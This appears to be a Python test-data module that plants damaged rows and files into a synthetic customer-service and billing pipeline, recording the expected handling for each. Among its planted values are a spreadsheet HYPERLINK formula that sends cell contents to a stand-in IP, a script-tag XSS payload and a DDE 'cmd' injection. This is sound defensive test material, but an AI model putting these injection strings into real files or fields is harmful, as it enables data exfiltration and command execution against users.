"""Damaged and contradictory data, planted on purpose and counted in the truth.

Belongs here: what is planted, where, and what should become of it. Does not belong here: anything believable.

Planted rows have ids of their own (most hold a `9` after the letter or start with 9), so they never touch a believable
row. Single rows go into the regular files; whole damaged files lie beside them with a mark in their name
(`tickets_20260105_renamed.csv`).
"""

from __future__ import annotations

import gzip
from dataclasses import asdict, dataclass
from datetime import date
from functools import cache
from pathlib import Path

import polars as pl
import yaml

from orchestration.demo.delivery import SHAPES, Outbox
from orchestration.demo.plan import DAY, UTC_OFFSET, Plan

LATE_DAYS = 3
_LATE_PLACE = "C-GD-DG"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
SCRIPT = "<script>alert('csatlas')</script>"

# What should become of a planted row (or file):
USED = "used"  # good enough to use; a flag may say what is odd
QUARANTINED = "quarantined"  # kept out of every number, visible with its reason
SUPERSEDED = "superseded"  # another version of the same key counts
REFUSED = "refused"  # the file is refused as a whole
SKIPPED = "skipped"  # a file that was loaded before, by its content
UNREADABLE = "unreadable"  # the record cannot be split into columns: kept as it came and quarantined


@dataclass(frozen=True)
class Planted:
    """One planted damage.

    Attributes:
        kind: what is wrong, by the names of the issue's list.
        source, table, file: where it lies.
        key: the row's key, or null for a whole file.
        fate: what should become of it.
        rows: rows concerned (a file's: all its rows).
        column: the column that is wrong, if one is.
        note: what a person should know about it.
    """

    kind: str
    source: str
    table: str
    file: str
    key: str | None
    fate: str
    rows: int = 1
    column: str | None = None
    note: str | None = None


@cache
def columns_of(table: str) -> list[str]:
    """Columns of a table as its source's declaration has them."""
    source, name = table.split(".")
    declared = yaml.safe_load(
        (Path(__file__).resolve().parents[1] / "sources" / f"{source}.yml").read_text(encoding="utf-8")
    )
    return list(declared["tables"][name]["columns"])


def _stamp(plan: Plan, day: int, pattern: str = "%Y-%m-%dT%H:%M:%SZ", hour: int = 10) -> str:
    text: str = (
        pl.from_epoch(
            pl.Series([plan.epoch + day * DAY + hour * 3600 + (0 if pattern.endswith("Z") else UTC_OFFSET)]),
            time_unit="s",
        )
        .dt.strftime(pattern)
        .item()
    )
    return text


def _ny(plan: Plan, day: int) -> str:
    text: str = (
        pl.from_epoch(pl.Series([plan.epoch + day * DAY + 40_000]), time_unit="s")
        .dt.replace_time_zone("UTC")
        .dt.convert_time_zone("America/New_York")
        .dt.strftime("%m/%d/%Y %I:%M:%S %p")
        .item()
    )
    return text


def _ticket(plan: Plan, day: int, number: int, **changes: str | None) -> dict[str, str | None]:
    row: dict[str, str | None] = {
        "id": str(number),
        "created_at": _stamp(plan, day, hour=2),
        "updated_at": _stamp(plan, day, hour=5),
        "type": "question",
        "subject": "账单查询",
        "description": "您好！想查一下上个月的账单明细。谢谢。",
        "priority": "normal",
        "status": "open",
        "recipient": "support@xingdu.example.com",
        "requester_id": "9990000001",
        "submitter_id": "9990000001",
        "group_id": "360000000",
        "has_incidents": "FALSE",
        "is_public": "TRUE",
        "via_channel": "web",
        "brand_id": "360003529474",
        "ticket_form_id": "360002048693",
        "tags": "",
        "custom_contact_kind": "consult",
        "custom_topic": "bill_question",
        "custom_product": "mobile",
        "custom_unit_code": "C-JS-NJ",
        "custom_touch_point": "web_hall",
        "custom_language": "zh",
    }
    return row | changes


def _user(plan: Plan, day: int, number: int, **changes: str | None) -> dict[str, str | None]:
    return {
        "id": str(number),
        "created_at": _stamp(plan, day),
        "updated_at": _stamp(plan, day),
        "name": "张测试",
        "email": f"planted{number}@example.com",
        "role": "end-user",
        "locale": "zh-CN",
        "time_zone": "Beijing",
        "active": "TRUE",
        "suspended": "FALSE",
        "tags": "",
    } | changes


def _comment(plan: Plan, day: int, number: int, **changes: str | None) -> dict[str, str | None]:
    return {
        "id": str(number),
        "ticket_id": "100001",
        "user_id": "9990000001",
        "created": _stamp(plan, day),
        "public": "TRUE",
        "body": "补充一下。",
        "voice_comment": "FALSE",
    } | changes


def _record(plan: Plan, day: int, serial: int, **changes: str | None) -> dict[str, str | None]:
    at = plan.epoch + day * DAY + 36_000
    text = "%Y-%m-%d %H:%M:%S"
    row: dict[str, str | None] = {
        "accountcode": "C-JS-NJ",
        "src": "17099990000",
        "dst": "10088",
        "dcontext": "from-pstn",
        "clid": '"17099990000" <17099990000>',
        "channel": f"PJSIP/trunk1-{serial:08d}",
        "dstchannel": "",
        "lastapp": "BackGround",
        "lastdata": "fault",
        "start": _stamp(plan, day, text),
        "answer": _stamp(plan, day, text),
        "end": _stamp(plan, day, text),
        "duration": "0",
        "billsec": "0",
        "disposition": "ANSWERED",
        "amaflags": "DOCUMENTATION",
        "uniqueid": f"{at}.9{serial:05d}",
        "userfield": "lang=zh;hu=caller;path=lang>main>fault",
    }
    return row | changes


def _line(plan: Plan, day: int, serial: int, **changes: str | None) -> dict[str, str | None]:
    at = plan.epoch + day * DAY + 36_000
    return {
        "time": str(at),
        "callid": f"{at}.9{serial:05d}",
        "queuename": "js_hotline",
        "agent": "NONE",
        "event": "ENTERQUEUE",
        "data2": "17099990000",
        "data3": "1",
    } | changes


def plant(plan: Plan, box: Outbox, month: int) -> list[Planted]:
    """Plant the month's single rows; returns those that the files written now contain."""
    rng = plan.rng("dirt", month)
    first, nxt = plan.month_days(month)
    days = rng.integers(first, nxt, 80).tolist()
    found: list[Planted] = []
    rows: dict[str, list[dict[str, str | None]]] = {}
    serial = iter(range(1, 10_000))
    stride = 1_000 * (month + 1)

    def put(
        kind: str,
        table: str,
        key: str,
        row: dict[str, str | None],
        fate: str,
        column: str | None = None,
        note: str | None = None,
    ) -> None:
        day = int(row.pop("_day") or 0)
        if not box.is_due(day):
            return
        rows.setdefault(table, []).append(row | {"_day": str(day)})
        source, name = table.split(".")
        found.append(
            Planted(kind, source, name, str(box.path(table, day).relative_to(box.inbox)), key, fate, 1, column, note)
        )

    def at(position: int) -> int:
        return int(days[position])

    def with_day(row: dict[str, str | None], day: int) -> dict[str, str | None]:
        return row | {"_day": str(day)}

    def number(base: int) -> int:
        return base + stride + next(serial)

    # -- help desk --
    d = at(0)
    n = number(90_000_000)
    put(
        "impossible_date",
        "zendesk.tickets",
        str(n),
        with_day(_ticket(plan, d, n, created_at=f"{plan.day_date(d).year}-02-30T10:00:00Z"), d),
        QUARANTINED,
        "created_at",
    )
    n = number(90_000_000)
    put(
        "future_time",
        "zendesk.tickets",
        str(n),
        with_day(_ticket(plan, at(1), n, created_at="2099-01-01T00:00:00Z"), at(1)),
        QUARANTINED,
        "created_at",
    )
    n = number(90_000_000)
    put(
        "unknown_code",
        "zendesk.tickets",
        str(n),
        with_day(_ticket(plan, at(2), n, custom_contact_kind="grievance_x"), at(2)),
        USED,
        "custom_contact_kind",
        "a flag, and 'unknown' in its place",
    )
    n = number(90_000_000)
    put(
        "formula_text",
        "zendesk.tickets",
        str(n),
        with_day(_ticket(plan, at(3), n, subject=FORMULA), at(3)),
        USED,
        "subject",
    )
    n = number(90_000_000)
    put(
        "script_text",
        "zendesk.tickets",
        str(n),
        with_day(_ticket(plan, at(4), n, description=SCRIPT), at(4)),
        USED,
        "description",
    )
    n = number(90_000_000)
    for which, priority in ((SUPERSEDED, "low"), (USED, "urgent")):
        put(
            "duplicate_key",
            "zendesk.tickets",
            str(n),
            with_day(_ticket(plan, at(5), n, priority=priority), at(5)),
            which,
            "priority",
            "same id and same updated_at, other priority; the later record of the file counts",
        )
    put("missing_value", "zendesk.tickets", "", with_day(_ticket(plan, at(6), 0, id=None), at(6)), QUARANTINED, "id")
    n = number(90_000_000)
    put(
        "orphan_key",
        "zendesk.ticket_comments",
        str(n),
        with_day(_comment(plan, at(7), n, ticket_id="88888888"), at(7)),
        USED,
        "ticket_id",
    )
    n = number(90_000_000)
    put(
        "impossible_date",
        "zendesk.ticket_comments",
        str(n),
        with_day(_comment(plan, at(8), n, created=f"{plan.day_date(at(8)).year}-13-01T00:00:00Z"), at(8)),
        QUARANTINED,
        "created",
    )
    n = number(9_700_000_000)
    put("formula_text", "zendesk.users", str(n), with_day(_user(plan, at(9), n, name=FORMULA), at(9)), USED, "name")
    n = number(9_700_000_000)
    put("script_text", "zendesk.users", str(n), with_day(_user(plan, at(10), n, name=SCRIPT), at(10)), USED, "name")
    # -- exchange --
    for position, (kind, change, fate, column) in enumerate(
        (
            (
                "end_before_start",
                {"end": _stamp(plan, at(11), "%Y-%m-%d %H:%M:%S", 8), "duration": "-7200"},
                QUARANTINED,
                "end",
            ),
            ("impossible_date", {"start": f"{plan.day_date(at(12)).year}-04-31 10:00:00"}, QUARANTINED, "start"),
            (
                "future_time",
                {"start": "2098-05-01 10:00:00", "answer": "2098-05-01 10:00:00", "end": "2098-05-01 10:01:00"},
                QUARANTINED,
                "start",
            ),
        )
    ):
        row = _record(plan, at(11 + position), next(serial), **change)
        put(kind, "asterisk.cdr", str(row["uniqueid"]), with_day(row, at(11 + position)), fate, column)
    row = _record(plan, at(14), next(serial))
    put(
        "duplicate_key",
        "asterisk.cdr",
        str(row["uniqueid"]),
        with_day(dict(row), at(14)),
        SUPERSEDED,
        "lastdata",
        "same uniqueid twice in one file with another menu node; the later record counts",
    )
    put(
        "duplicate_key",
        "asterisk.cdr",
        str(row["uniqueid"]),
        with_day(row | {"lastdata": "bill"}, at(14)),
        USED,
        "lastdata",
        "same uniqueid twice in one file with another menu node; the later record counts",
    )
    row = _line(plan, at(15), next(serial), time="yesterday")
    put("text_in_number", "asterisk.queue_log", str(row["callid"]), with_day(row, at(15)), QUARANTINED, "time")
    row = _line(plan, at(16), next(serial), event="FOOBAR")
    put("unknown_code", "asterisk.queue_log", str(row["callid"]), with_day(row, at(16)), QUARANTINED, "event")
    row = _line(plan, at(17), next(serial))
    put(
        "orphan_key",
        "asterisk.queue_log",
        str(row["callid"]),
        with_day(row, at(17)),
        USED,
        "callid",
        "no call record for it",
    )
    # -- surveys --
    response = f"R9{month:03d}"
    n = next(serial)
    base = {
        "survey_id": "CSAT01",
        "survey_type": "csat",
        "contact_type": "relationship",
        "mode": "sms",
        "unit_code": "C-JS-NJ",
        "product": "mobile",
        "language": "zh",
    }
    put(
        "orphan_key",
        "surveys.responses",
        f"{response}{n:05d}",
        with_day(
            {
                "response_id": f"{response}{n:05d}",
                "invitation_id": "V9999999999",
                **base,
                "submitted_at": _ny(plan, at(18)),
            },
            at(18),
        ),
        USED,
        "invitation_id",
    )
    answers = [
        ("out_of_scale", "S1", "9", QUARANTINED),
        ("text_in_number", "S1", "非常满意!!", QUARANTINED),
        ("unknown_code", "ZZ", "4", QUARANTINED),
    ]
    for position, (kind, question, value, fate) in enumerate(answers):
        n = next(serial)
        put(
            kind,
            "surveys.answers",
            f"{response}{n:05d}|{question}",
            with_day(
                {
                    "response_id": f"{response}{n:05d}",
                    "survey_id": "CSAT01",
                    "question_id": question,
                    "value": value,
                    "submitted_at": _ny(plan, at(19 + position)),
                },
                at(19 + position),
            ),
            fate,
            "question_id" if kind == "unknown_code" else "value",
        )
    spring, autumn = _clock_changes(plan.day_date(first).year)
    for kind, when, text, fate in (
        ("dst_gap", spring, f"{spring:%m/%d/%Y} 02:30:00 AM", QUARANTINED),
        ("dst_overlap", autumn, f"{autumn:%m/%d/%Y} 01:30:00 AM", USED),
    ):
        day = plan.day_of(when)
        if first <= day < nxt:
            for _ in range(3):
                n = next(serial)
                put(
                    kind,
                    "surveys.responses",
                    f"{response}{n:05d}",
                    with_day({"response_id": f"{response}{n:05d}", **base, "submitted_at": text}, day),
                    fate,
                    "submitted_at",
                    "the survey tool's clock is New York's",
                )
    # -- customer management --
    fax = f"025662{month:03d}{next(serial):02d}"
    put(
        "unknown_code",
        "crm.customer_identifiers",
        f"K0000001|FAX|{fax}",
        with_day(
            {
                "customer_no": "K0000001",
                "id_type": "FAX",
                "id_value": fax,
                "valid_from": "2020-01-01",
                "updated_at": _stamp(plan, at(24), "%Y/%m/%d %H:%M:%S"),
            },
            at(24),
        ),
        QUARANTINED,
        "id_type",
    )
    n = next(serial)
    put(
        "orphan_key",
        "crm.customer_identifiers",
        f"K9999998|EMAIL|orphan{month}@example.com",
        with_day(
            {
                "customer_no": "K9999998",
                "id_type": "EMAIL",
                "id_value": f"orphan{month}@example.com",
                "valid_from": "2020-01-01",
                "updated_at": _stamp(plan, at(25), "%Y/%m/%d %H:%M:%S"),
            },
            at(25),
        ),
        USED,
        "customer_no",
    )
    slash = "%Y/%m/%d %H:%M:%S"
    key = f"T9{month:03d}-X{next(serial)}"
    put(
        "end_before_start",
        "crm.agent_states",
        key,
        with_day(
            {
                "state_id": key,
                "agent_no": "A01000",
                "unit_code": "T-JS-NJ-1",
                "state": "READY",
                "start_time": _stamp(plan, at(26), slash),
                "end_time": _stamp(plan, at(26), slash, 9),
            },
            at(26),
        ),
        QUARANTINED,
        "end_time",
    )
    key = f"Q9{month:03d}{next(serial):04d}"
    put(
        "above_maximum",
        "crm.quality_reviews",
        key,
        with_day(
            {
                "质检编号": key,
                "工号": "A01000",
                "机构编码": "T-JS-NJ-1",
                "接触类型": "工单",
                "接触编号": "100001",
                "质检员": "A90001",
                "质检时间": _stamp(plan, at(27), slash),
                "用语": "25",
                "态度": "18",
                "语气": "18",
                "需求把握": "17",
                "应变能力": "16",
                "致命差错": "否",
            },
            at(27),
        ),
        QUARANTINED,
        "用语",
        "one of the five items; the other four are used",
    )
    key = f"W9{month:03d}{next(serial):05d}"
    put(
        "end_before_start",
        "crm.commitments",
        key,
        with_day(
            {
                "commitment_id": key,
                "kind": "CALLBACK",
                "purpose": "satisfaction",
                "about_type": "ticket",
                "about_id": "100001",
                "customer_no": "K0000001",
                "agent_no": "A01000",
                "unit_code": "T-JS-NJ-1",
                "made_at": _stamp(plan, at(28), slash, 12),
                "due_at": _stamp(plan, at(28), slash, 15),
                "attempts": "1",
                "done_at": _stamp(plan, at(28), slash, 9),
                "result": "reached",
                "control_group": "",
                "updated_at": _stamp(plan, at(28), slash, 13),
            },
            at(28),
        ),
        QUARANTINED,
        "done_at",
    )
    # -- billing --
    for position, (kind, change, column) in enumerate(
        (
            ("wrong_decimal", {"amount": "59.90"}, "amount"),
            ("text_in_number", {"amount": "五十九元"}, "amount"),
            ("impossible_date", {"paid_at": f"31.02.{plan.day_date(at(31)).year} 10:00:00"}, "paid_at"),
        )
    ):
        key = f"Z9{month:03d}{next(serial):06d}"
        day = at(29 + position)
        put(
            kind,
            "billing.payments",
            key,
            with_day(
                {
                    "payment_no": key,
                    "account_no": "D200010001",
                    "party_no": "B10000011",
                    "charge_no": "F0",
                    "method": "hall_cash",
                    "amount": "59,90",
                    "currency": "CNY",
                    "paid_at": _stamp(plan, day, "%d.%m.%Y %H:%M:%S"),
                    "bank_reference": "BR0",
                    **change,
                },
                day,
            ),
            QUARANTINED,
            column,
        )
    for position, (kind, change, fate, column) in enumerate(
        (
            ("text_in_number", {"amount": "zwölf"}, QUARANTINED, "amount"),
            ("unknown_code", {"charge_type": "ZZZ"}, QUARANTINED, "charge_type"),
            ("orphan_key", {"account_no": "D299999999", "party_no": "B19999999"}, USED, "account_no"),
        )
    ):
        key = f"F9{month:03d}{next(serial):06d}"
        day = at(32 + position)
        put(
            kind,
            "billing.charges",
            key,
            with_day(
                {
                    "charge_no": key,
                    "account_no": "D200010001",
                    "party_no": "B10000011",
                    "subscription_no": "S3000000001",
                    "unit_code": "C-GD-GZ",
                    "product": "MOB",
                    "charge_type": "USAGE",
                    "amount": "1.0",
                    "cost": "0.3",
                    "currency": "CNY",
                    "charged_at": _stamp(plan, day, "%Y-%m-%d %H:%M:%S"),
                    "due_date": str(plan.day_date(day)),
                    "updated_at": _stamp(plan, day, "%Y-%m-%d %H:%M:%S"),
                    **change,
                },
                day,
            ),
            fate,
            column,
        )
    key = f"B9{month:03d}{next(serial):04d}"
    put(
        "formula_text",
        "billing.parties",
        key,
        with_day(
            {
                "party_no": key,
                "party_type": "P",
                "name": "@SUM(1+1)*cmd|' /C calc'!A0",
                "phone": "",
                "unit_code": "C-JS-NJ",
                "since": "01.01.2020",
                "updated_at": _stamp(plan, at(35), "%Y-%m-%d %H:%M:%S"),
            },
            at(35),
        ),
        USED,
        "name",
    )
    for table, planted in rows.items():
        names = columns_of(table)
        frame = pl.DataFrame(
            [{name: row.get(name) for name in names} | {"_day": int(row["_day"] or 0)} for row in planted],
            schema={**dict.fromkeys(names, pl.String), "_day": pl.Int32},
        )
        if table in STREAMED:
            box.stream(table, as_written(table, frame))
        else:
            box.add(table, frame)
    return found


STREAMED = {"asterisk.cdr", "asterisk.queue_log", "crm.rosters", "crm.agent_states"}


def as_written(table: str, frame: pl.DataFrame) -> pl.DataFrame:
    """Empty instead of null in the call records: Asterisk writes `""` for text it does not have."""
    return frame.with_columns(pl.exclude("_day").fill_null("")) if table == "asterisk.cdr" else frame


def _clock_changes(year: int) -> tuple[date, date]:
    """Second Sunday of March and first Sunday of November."""
    march, november = date(year, 3, 1), date(year, 11, 1)
    return march.replace(day=8 + (6 - march.weekday()) % 7), november.replace(day=1 + (6 - november.weekday()) % 7)


def late_records(plan: Plan, frame: pl.DataFrame) -> pl.DataFrame:
    """Twice in the history the records of one city's line came three days late."""
    if not plan.dirty:
        return frame
    late = [day for month in (1, 5) for day in [plan.month_first_day(month) + 12]]
    return frame.with_columns(
        pl.when((pl.col("accountcode") == _LATE_PLACE) & pl.col("_day").is_in(late))
        .then(pl.col("_day") + LATE_DAYS)
        .otherwise(pl.col("_day"))
        .cast(pl.Int32)
        .alias("_day")
    )


# -- rows of the snapshots ----------------------------------------------------------------------------------------


def with_planted_customers(plan: Plan, frame: pl.DataFrame) -> pl.DataFrame:
    """The customer file with five customers who should not be so."""
    if not plan.dirty:
        return frame
    base = {
        "客户类型": "个人",
        "出生日期": "1980-01-01",
        "所属省份": "江苏",
        "所属城市": "南京",
        "机构编码": "C-JS-NJ",
        "地址": "南京市中山路1号",
        "语言": "中文",
        "入网日期": "2020-01-01",
        "客户状态": "在网",
    }
    rows = [
        base | {"客户编号": "K9990001", "客户名称": FORMULA},
        base | {"客户编号": "K9990002", "客户名称": SCRIPT},
        base | {"客户编号": "K9990003", "客户名称": "王日期", "出生日期": "1990-02-30"},
        base | {"客户编号": "K9990004", "客户名称": "李类型", "客户类型": "机器人"},
        base | {"客户编号": "K9990005", "客户名称": "赵归属", "归属客户": "K9999998"},
    ]
    return pl.concat(
        [frame, pl.DataFrame([{name: row.get(name) for name in frame.columns} for row in rows], schema=frame.schema)]
    )


def with_planted_subscriptions(plan: Plan, frame: pl.DataFrame) -> pl.DataFrame:
    """The contract file with two contracts that end before they start or cannot be dated."""
    if not plan.dirty:
        return frame
    base = {
        "account_no": "D200010001",
        "party_no": "B10000011",
        "unit_code": "C-GD-GZ",
        "product": "MOB",
        "tariff": "星卡 29",
        "service_number": "17099990000",
        "start_date": "01.06.2024",
        "contract_months": "12",
        "monthly_fee": "29,00",
        "currency": "CNY",
    }
    rows = [
        base | {"subscription_no": "S3999999991", "end_date": "01.05.2024", "end_reason": "K09"},
        base | {"subscription_no": "S3999999992", "start_date": "00.00.0000"},
        base | {"subscription_no": "S3999999993", "monthly_fee": "n/a"},
    ]
    return pl.concat(
        [frame, pl.DataFrame([{name: row.get(name) for name in frame.columns} for row in rows], schema=frame.schema)]
    )


def snapshot_plants(plan: Plan, box: Outbox) -> list[Planted]:
    """What the newest snapshots contain (earlier ones contain the same keys, superseded by the newest)."""
    kinds = [
        ("formula_text", "crm", "customers", "K9990001", USED, "客户名称"),
        ("script_text", "crm", "customers", "K9990002", USED, "客户名称"),
        ("impossible_date", "crm", "customers", "K9990003", QUARANTINED, "出生日期"),
        ("unknown_code", "crm", "customers", "K9990004", USED, "客户类型"),
        ("orphan_key", "crm", "customers", "K9990005", USED, "归属客户"),
        ("end_before_start", "billing", "subscriptions", "S3999999991", QUARANTINED, "end_date"),
        ("impossible_date", "billing", "subscriptions", "S3999999992", QUARANTINED, "start_date"),
        ("text_in_number", "billing", "subscriptions", "S3999999993", QUARANTINED, "monthly_fee"),
    ]
    return [
        Planted(
            kind,
            source,
            table,
            str(box.snapshot_path(f"{source}.{table}", box.until).relative_to(box.inbox)),
            key,
            fate,
            1,
            column,
            "in every snapshot; this is the newest",
        )
        for kind, source, table, key, fate, column in kinds
    ]


# -- whole files --------------------------------------------------------------------------------------------------


def plant_files(plan: Plan, box: Outbox) -> list[Planted]:
    """Files that are damaged as files, at fixed days of the history."""
    found: list[Planted] = []

    def csv(table: str, rows: list[dict[str, str | None]], names: list[str] | None = None) -> str:
        names = names or columns_of(table)
        separator = SHAPES[table].separator
        lines = [separator.join(names)] if SHAPES[table].header else []
        for row in rows:
            lines.append(separator.join(_quoted(row.get(name) or "", separator) for name in names))
        return "\n".join(lines) + "\n"

    def day(number: int) -> int:
        """Spread over the history: the k-th of twenty."""
        return plan.month_first_day(plan.months * number // 20) + 2 + number

    def put(
        number: int,
        table: str,
        mark: str,
        content: bytes,
        kind: str,
        fate: str,
        rows: int,
        key: str | None = None,
        note: str | None = None,
        column: str | None = None,
        suffix: str = "",
    ) -> None:
        path = box.special(table, day(number), f"_{mark}", content, rows)
        if path is None:
            return
        if suffix:
            path = path.rename(path.with_name(path.name + suffix))
        source, name = table.split(".")
        found.append(Planted(kind, source, name, str(path.relative_to(box.inbox)), key, fate, rows, column, note))

    d = day
    tickets = columns_of("zendesk.tickets")
    users = csv("zendesk.users", [_user(plan, d(1), 9_800_000_001 + k, name="赵编码") for k in range(3)])
    put(
        1,
        "zendesk.users",
        "utf16",
        users.encode("utf-16"),
        "wrong_encoding",
        USED,
        3,
        note="UTF-16 with a byte-order mark where the table is UTF-8",
    )
    comments = csv(
        "zendesk.ticket_comments",
        [_comment(plan, d(2), 95_000_001 + k, body="中文内容使用国标编码，希望尽快处理，谢谢。") for k in range(3)],
    )
    put(
        2,
        "zendesk.ticket_comments",
        "gb18030",
        comments.encode("gb18030"),
        "wrong_encoding",
        USED,
        3,
        note="GB18030 where the table is UTF-8",
    )
    organisations = csv(
        "zendesk.organizations",
        [
            {
                "id": str(8_900_000_001 + k),
                "name": "Société Générique Café",
                "domain_names": "cafe.example.com",
                "created_at": _stamp(plan, d(3)),
                "updated_at": _stamp(plan, d(3)),
            }
            for k in range(2)
        ],
    )
    put(
        3,
        "zendesk.organizations",
        "latin1",
        organisations.encode("latin-1"),
        "wrong_encoding",
        USED,
        2,
        note="Latin-1 where the table is UTF-8",
    )
    renamed = csv(
        "zendesk.tickets",
        [_ticket(plan, d(4), 95_100_001 + k) | {"channel": "web"} for k in range(2)],
        ["channel" if name == "via_channel" else name for name in tickets],
    )
    put(
        4,
        "zendesk.tickets",
        "renamed",
        renamed.encode(),
        "renamed_column",
        USED,
        2,
        column="via_channel",
        note="the heading says `channel`, a declared alias",
    )
    put(
        5,
        "zendesk.tickets",
        "missing",
        csv(
            "zendesk.tickets",
            [_ticket(plan, d(5), 95_200_001 + k) for k in range(2)],
            [name for name in tickets if name != "custom_language"],
        ).encode(),
        "missing_column",
        USED,
        2,
        column="custom_language",
    )
    extra = csv(
        "zendesk.tickets",
        [_ticket(plan, d(6), 95_300_001 + k) | {"satisfaction_score": "good"} for k in range(2)],
        [*tickets, "satisfaction_score"],
    )
    put(6, "zendesk.tickets", "extra", extra.encode(), "extra_column", USED, 2, column="satisfaction_score")
    put(
        7,
        "zendesk.tickets",
        "duplicate",
        csv(
            "zendesk.tickets", [_ticket(plan, d(7), 95_400_001 + k) for k in range(2)], [*tickets, "priority"]
        ).encode(),
        "duplicate_column",
        USED,
        2,
        column="priority",
        note="the heading names it twice",
    )
    put(8, "zendesk.tickets", "header", csv("zendesk.tickets", []).encode(), "header_only", USED, 0)
    put(
        9,
        "billing.payments",
        "empty",
        b"",
        "empty_file",
        REFUSED,
        0,
        note="no byte in it, not even a heading",
    )
    put(
        10,
        "zendesk.users",
        "nokey",
        csv(
            "zendesk.users",
            [_user(plan, d(10), 9_800_000_011)],
            [name for name in columns_of("zendesk.users") if name != "id"],
        ).encode(),
        "missing_required_column",
        REFUSED,
        1,
        column="id",
    )
    put(
        11,
        "zendesk.tickets",
        "again",
        renamed.encode(),
        "repeated_file",
        SKIPPED,
        2,
        note="the same bytes as the file with the renamed column, under another name",
    )
    ragged = (
        csv("zendesk.tickets", [_ticket(plan, d(12), 95_500_001), _ticket(plan, d(12), 95_500_002)])
        + "95500003,,2026-01-01T00:00:00Z"
        + "\n"
        + ",".join(["95500004"] + ["x"] * (len(tickets) + 4))
        + "\n"
    )
    put(
        12,
        "zendesk.tickets",
        "ragged",
        ragged.encode(),
        "ragged_line",
        UNREADABLE,
        2,
        note="two good records (95500001, 95500002), one with too few and one with too many fields",
    )
    quote = (
        csv("zendesk.ticket_comments", [_comment(plan, d(13), 95_600_001)])
        + '95600002,100001,9990000001,2026-01-01T00:00:00Z,TRUE,"never closed,FALSE\n'
    )
    put(
        13,
        "zendesk.ticket_comments",
        "quote",
        quote.encode(),
        "broken_quote",
        UNREADABLE,
        1,
        note="one good record (95600001), one whose quote is never closed",
    )
    good = _line(plan, d(14), 99_001, callid="90000000.99001", event="QUEUESTART", queuename="NONE", data2="", data3="")
    long = "|".join(good.get(name) or "" for name in columns_of("asterisk.queue_log")) + "\n" + "x" * 120_000 + "\n"
    put(
        14,
        "asterisk.queue_log",
        "long",
        long.encode(),
        "over_long_line",
        UNREADABLE,
        1,
        note="one good line and one of 120,000 characters",
    )
    undecodable = (
        csv("zendesk.ticket_comments", [_comment(plan, d(15), 95_700_001, body="好的内容，没有问题。")]).encode()
        + b"95700002,100001,9990000001,2026-01-01T00:00:00Z,TRUE,\xe4\xbd\xff\xfe broken,FALSE\n"
    )
    put(
        15,
        "zendesk.ticket_comments",
        "bytes",
        undecodable,
        "undecodable_bytes",
        UNREADABLE,
        1,
        note="one good record (95700001), one with bytes that are no UTF-8",
    )
    step = {
        "step_id": "U9-1",
        "run": "RUN9",
        "step": "SMS1",
        "account_no": "D200010001",
        "party_no": "B10000011",
        "unit_code": "C-GD-GZ",
        "done_at": _stamp(plan, d(16), "%Y-%m-%dT%H:%M:%S") + "+08:00",
        "amount_due": 59.0,
        "cost": 0.05,
        "result": "none",
        "result_at": None,
        "updated_at": _stamp(plan, d(16), "%Y-%m-%dT%H:%M:%S") + "+08:00",
    }
    import json

    lines = json.dumps(step) + "\n" + '{"step_id": "U9-2", "run": \n'
    put(
        16,
        "retention.dunning",
        "json",
        lines.encode(),
        "broken_json",
        UNREADABLE,
        1,
        note="one good line (U9-1), one that ends in the middle",
    )
    packed = gzip.compress(
        csv(
            "surveys.answers",
            [
                {
                    "response_id": f"R9900000{k}",
                    "survey_id": "CSAT01",
                    "question_id": "S1",
                    "value": "4",
                    "submitted_at": _ny(plan, d(17)),
                }
                for k in range(3)
            ],
        ).encode(),
        mtime=0,
    )
    put(
        17,
        "surveys.answers",
        "packed",
        packed,
        "compressed_file",
        USED,
        3,
        suffix=".gz",
        note="gzip where the table is plain",
    )
    return found


def _quoted(text: str, separator: str) -> str:
    return '"' + text.replace('"', '""') + '"' if any(mark in text for mark in (separator, '"', "\n")) else text


def as_dicts(planted: list[Planted]) -> list[dict[str, object]]:
    return [asdict(item) for item in planted]
